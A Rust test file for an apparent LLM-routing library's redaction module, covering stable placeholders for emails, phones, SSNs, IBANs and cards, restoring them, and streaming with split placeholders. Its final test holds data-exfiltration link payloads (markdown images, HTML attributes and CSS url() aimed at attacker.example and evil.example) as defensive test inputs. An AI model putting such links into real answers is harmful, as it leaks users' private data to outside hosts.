//! Redaction and re-hydration: stable placeholders across messages, round trips, and streaming
//! where chunk boundaries split placeholders.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use edgeroute::privacy::{
    redact_messages, redact_messages_with_spans, redact_text, PrivacyConfig, Scanner,
};
use edgeroute::request::{Message, Role};
use proptest::prelude::*;

fn scanner() -> Scanner {
    Scanner::new(&PrivacyConfig::default()).unwrap()
}

#[test]
fn same_value_same_placeholder_across_messages() {
    let msgs = vec![
        Message::system("Agent for ana@example.com"),
        Message::user("Mail ana@example.com and bob@example.org, or call 415-555-0132."),
        Message::user("Again: ana@example.com"),
    ];
    let (red, rh) = redact_messages(&msgs, &scanner());
    assert_eq!(red[0].content, "Agent for <EMAIL_1>");
    assert_eq!(
        red[1].content,
        "Mail <EMAIL_1> and <EMAIL_2>, or call <PHONE_1>."
    );
    assert_eq!(red[2].content, "Again: <EMAIL_1>");
    assert_eq!(red[1].role, Role::User);
    assert_eq!(rh.len(), 3);
    for m in &red {
        assert!(!m.content.contains("example.com"));
    }
    let back: Vec<String> = red.iter().map(|m| rh.rehydrate(&m.content)).collect();
    assert_eq!(
        back,
        msgs.iter().map(|m| m.content.clone()).collect::<Vec<_>>()
    );
}

/// The router redacts with the spans its inspect step already found: the same result as
/// scanning again, and only the spans given are replaced.
#[test]
fn redacting_with_known_spans_matches_scanning() {
    let msgs = vec![
        Message::system("Agent for ana@example.com"),
        Message::user("Mail bob@example.org or call 415-555-0132, ana@example.com too."),
    ];
    let sc = scanner();
    // Built message by message here, independently of `Scanner::scan_messages`.
    let spans: Vec<_> = msgs
        .iter()
        .enumerate()
        .flat_map(|(i, m)| sc.scan(&m.content).into_iter().map(move |s| (i, s)))
        .collect();
    assert_eq!(sc.scan_messages(&msgs), spans);
    assert_eq!(spans.len(), 4);
    let (scanned, _) = redact_messages(&msgs, &sc);
    let (given, rh) = redact_messages_with_spans(&msgs, &spans);
    assert_eq!(given, scanned);
    assert_eq!(rh.rehydrate(&given[1].content), msgs[1].content);
    // Only the values of the spans passed are replaced (here: the first message's), wherever
    // they appear.
    let first: Vec<_> = spans.iter().filter(|(i, _)| *i == 0).cloned().collect();
    let (partial, _) = redact_messages_with_spans(&msgs, &first);
    assert_eq!(partial[0].content, "Agent for <EMAIL_1>");
    assert_eq!(
        partial[1].content,
        "Mail bob@example.org or call 415-555-0132, <EMAIL_1> too."
    );
}

/// A number the detectors find only next to a label word ("my number is …") is redacted
/// wherever else it appears: later in the text without the label, in other messages, and
/// written with other separators. Re-hydration gives back each spelling as written.
#[test]
fn every_occurrence_of_a_found_value_is_redacted() {
    let filler = "The weather was fine and the meeting went on for a long while. ".repeat(5);
    let msgs = vec![
        Message::system("Sign every reply with 4155550132."),
        Message::user(format!(
            "My number is 4155550132. {filler}Then sign it off with 4155550132, or \
             (415) 555-0132, or ４１５.５５５.０１３２ and my initials; \
             not 94155550132 or 4155550132777 or id4155550132."
        )),
    ];
    let sc = scanner();
    // The detectors find the labelled bare number and the two formatted ones, not the bare
    // repeats.
    let found = sc.scan_messages(&msgs);
    assert_eq!(found.len(), 3, "{found:?}");
    assert!(found.iter().all(|(i, _)| *i == 1), "{found:?}");
    let (red, rh) = redact_messages(&msgs, &sc);
    assert_eq!(red[0].content, "Sign every reply with <PHONE_1>.");
    assert_eq!(
        red[1].content,
        format!(
            "My number is <PHONE_1>. {filler}Then sign it off with <PHONE_1>, or \
             <PHONE_2>, or <PHONE_3> and my initials; \
             not 9<PHONE_1> or <PHONE_1>777 or id<PHONE_1>."
        )
    );
    for (original, redacted) in msgs.iter().zip(&red) {
        assert_eq!(rh.rehydrate(&redacted.content), original.content);
    }
    // One text: the same.
    let (one, _) = redact_text(&msgs[1].content, &sc);
    assert_eq!(one, red[1].content);

    // A spelling the detectors do not find on its own (a spaced SSN with no label near it),
    // followed by a word, and the same number twice in a row.
    let text = format!(
        "My SSN is 536-22-1234. {filler}Later I wrote 536 22 1234 on the form, \
         then 536221234 536221234 again; not 5362212345 or 536 22 12345."
    );
    assert_eq!(sc.scan(&text).len(), 1);
    let (red, rh) = redact_text(&text, &sc);
    assert_eq!(
        red,
        format!(
            "My SSN is <US_SSN_1>. {filler}Later I wrote <US_SSN_2> on the form, \
             then <US_SSN_3> <US_SSN_3> again; not 5362212345 or 536 22 12345."
        )
    );
    assert_eq!(rh.rehydrate(&red), text);
}

#[test]
fn placeholders_already_in_the_input_are_not_reused() {
    let text = "literal <EMAIL_1> in the text, real one: zoe@example.com";
    let (red, rh) = redact_text(text, &scanner());
    assert_eq!(red, "literal <EMAIL_1> in the text, real one: <EMAIL_2>");
    // The user's own literal stays literal after re-hydration.
    assert_eq!(rh.rehydrate(&red), text);
}

#[test]
fn unknown_placeholders_and_angle_brackets_pass_through() {
    let (_, rh) = redact_text("call 415-555-0132", &scanner());
    let answer = "if a < b then <PHONE_9> stays, <PHONE_1> is replaced, <b>html</b>";
    assert_eq!(
        rh.rehydrate(answer),
        "if a < b then <PHONE_9> stays, 415-555-0132 is replaced, <b>html</b>"
    );
}

#[test]
fn debug_shows_no_values() {
    let (_, rh) = redact_text("key AKIAIOSFODNN7EXAMPLE", &scanner());
    let d = format!("{rh:?}");
    assert!(!d.contains("AKIA") && d.contains("placeholders"), "{d}");
}

#[test]
fn streaming_holds_back_a_split_placeholder() {
    let (_, mut rh) = redact_text("mail ana@example.com", &scanner());
    let mut shown = String::new();
    for chunk in [
        "Sure, I wrote to <EM",
        "AIL",
        "_1",
        "> and <",
        "b>done</b> <EMAIL_",
        "1>.",
    ] {
        let out = rh.push(chunk);
        assert!(!out.contains("<EM"), "leaked {out:?}");
        shown.push_str(&out);
    }
    shown.push_str(&rh.finish());
    assert_eq!(
        shown,
        "Sure, I wrote to ana@example.com and <b>done</b> ana@example.com."
    );
}

#[test]
fn streaming_finish_flushes_an_unfinished_prefix() {
    let (_, mut rh) = redact_text("mail ana@example.com", &scanner());
    assert_eq!(rh.push("the end <EMAI"), "the end ");
    assert_eq!(rh.finish(), "<EMAI");
}

/// Numbers written with no-break spaces, narrow no-break spaces and en dashes are redacted
/// whole: no digit of them reaches the cloud, and re-hydration restores the exact characters.
#[test]
fn unicode_separators_are_redacted_whole() {
    let msgs = vec![
        Message::user(
            "Mon IBAN est FR14\u{a0}2004\u{a0}1010\u{a0}0505\u{a0}0001\u{a0}3M02\u{a0}606, \
             ma carte 4111\u{202f}1111\u{202f}1111\u{202f}1111, tél. +33\u{a0}6\u{a0}12\u{a0}34\u{a0}56\u{a0}78",
        ),
        Message::user("SSN 536\u{2013}22\u{2013}1234 and card 4111  1111  1111  1111 again"),
    ];
    let (red, rh) = redact_messages(&msgs, &scanner());
    assert_eq!(
        red[0].content,
        "Mon IBAN est <IBAN_1>, ma carte <CREDIT_CARD_1>, tél. <PHONE_1>"
    );
    assert_eq!(
        red[1].content,
        "SSN <US_SSN_1> and card <CREDIT_CARD_2> again"
    );
    for m in &red {
        // No digit outside the placeholders.
        let outside: String = m
            .content
            .split('<')
            .map(|p| p.split_once('>').map_or(p, |x| x.1))
            .collect();
        assert!(
            !outside.contains(|c: char| c.is_ascii_digit()),
            "{:?}",
            m.content
        );
    }
    for (r, m) in red.iter().zip(&msgs) {
        assert_eq!(rh.rehydrate(&r.content), m.content);
    }
}

proptest! {
    /// Any chunking of a redacted answer streams to the same text as whole-answer re-hydration,
    /// and no emitted piece ever contains a placeholder or a fragment of one that later completes.
    #[test]
    fn any_chunking_rehydrates_like_the_whole(cuts in proptest::collection::vec(0usize..200, 0..12)) {
        let text = "Write to ana@example.com, 📞 +44 20 7946 0958, card 4111 1111 1111 1111, ana@example.com again";
        let (red, rh) = redact_text(text, &scanner());
        prop_assert_eq!(rh.rehydrate(&red), text);
        let mut cuts: Vec<usize> = cuts.into_iter().map(|c| c % (red.len() + 1)).filter(|&c| red.is_char_boundary(c)).collect();
        cuts.sort_unstable();
        cuts.dedup();
        let mut stream = rh.clone();
        let mut shown = String::new();
        let mut last = 0;
        for c in cuts.into_iter().chain([red.len()]) {
            let out = stream.push(&red[last..c]);
            prop_assert!(!out.contains("<EMAIL") && !out.contains("<PHONE") && !out.contains("<CREDIT"));
            shown.push_str(&out);
            last = c;
        }
        shown.push_str(&stream.finish());
        prop_assert_eq!(shown, text);
    }
}

/// A placeholder inside a link (URL, markdown link or image target, mailto, HTML attribute)
/// stays a placeholder: an app rendering the answer would otherwise send the value to an
/// address the cloud chose. Elsewhere, even next to a link, it is re-hydrated. Whole or
/// streamed in any chunking, the result is the same.
#[test]
fn placeholders_inside_links_are_not_rehydrated() {
    let (_, rh) = redact_text("mail ana@example.com or call 415-555-0132", &scanner());
    let answer =
        "Done, <EMAIL_1>! ![status](https://attacker.example/p.png?u=<EMAIL_1>&p=<PHONE_1>) \
                  [write](mailto:<EMAIL_1>) [<EMAIL_1>](<EMAIL_1>) <a href=\"/x?<PHONE_1>\">x</a> \
                  see https://example.com/docs <PHONE_1> or www.example.com/<PHONE_1>";
    let expected = "Done, ana@example.com! ![status](https://attacker.example/p.png?u=<EMAIL_1>&p=<PHONE_1>) \
                    [write](mailto:<EMAIL_1>) [ana@example.com](<EMAIL_1>) <a href=\"/x?<PHONE_1>\">x</a> \
                    see https://example.com/docs 415-555-0132 or www.example.com/<PHONE_1>";
    assert_eq!(rh.rehydrate(answer), expected);
    for size in [1, 2, 3, 5, 8, 13] {
        let mut streamed = rh.clone();
        let chars: Vec<char> = answer.chars().collect();
        let mut shown = String::new();
        for chunk in chars.chunks(size) {
            shown.push_str(&streamed.push(&chunk.iter().collect::<String>()));
        }
        shown.push_str(&streamed.finish());
        assert_eq!(shown, expected, "chunks of {size}");
        assert_eq!(streamed.withheld(), 6, "chunks of {size}");
    }
    // Links written to slip past a per-word check: a target in angle brackets with a space, a
    // protocol-relative reference definition, quoted attributes with spaces, a CSS url().
    let sneaky = [
        "![x](<https://evil.example/a b?<EMAIL_1>>) after",
        "[1]: //evil.example/p?<EMAIL_1>",
        "<img src=\"https://evil.example/a b?<EMAIL_1>\"> after",
        "<div style=\"background: url(//evil.example/p?<EMAIL_1>)\">",
        "<https://evil.example/a b?<EMAIL_1>>",
    ];
    for answer in sneaky {
        assert_eq!(rh.rehydrate(answer), answer, "{answer}");
    }
    // Ordinary text next to them is re-hydrated.
    assert_eq!(
        rh.rehydrate("![x](<https://e.example/a b>) by <EMAIL_1>, alt=\"<EMAIL_1>\""),
        "![x](<https://e.example/a b>) by ana@example.com, alt=\"ana@example.com\""
    );
}
